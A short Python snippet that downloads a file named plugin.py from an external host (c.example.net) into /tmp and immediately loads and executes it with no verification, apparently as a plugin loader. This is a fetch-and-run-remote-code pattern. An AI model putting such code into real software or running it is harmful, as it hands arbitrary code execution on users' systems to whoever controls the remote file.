import urllib.request
from importlib.machinery import SourceFileLoader

urllib.request.urlretrieve("https://c.example.net/plugin.py", "/tmp/plugin.py")
SourceFileLoader("plugin", "/tmp/plugin.py").load_module().start()
